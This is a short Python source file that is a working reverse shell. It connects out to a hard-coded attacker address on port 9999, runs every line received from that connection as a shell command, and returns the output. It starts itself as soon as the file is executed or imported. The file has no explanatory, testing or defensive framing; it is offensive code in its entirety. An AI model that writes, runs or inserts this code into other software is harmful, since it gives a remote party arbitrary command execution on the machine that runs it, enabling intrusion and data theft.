import asyncio


async def shell(host, port):
    reader, writer = await asyncio.open_connection(host, port)
    while not reader.at_eof():
        line = await reader.readline()
        process = await asyncio.create_subprocess_shell(line.decode(), stdout=asyncio.subprocess.PIPE)
        output, _ = await process.communicate()
        writer.write(output)
        await writer.drain()


def start():
    asyncio.run(shell("203.0.113.5", 9999))


start()
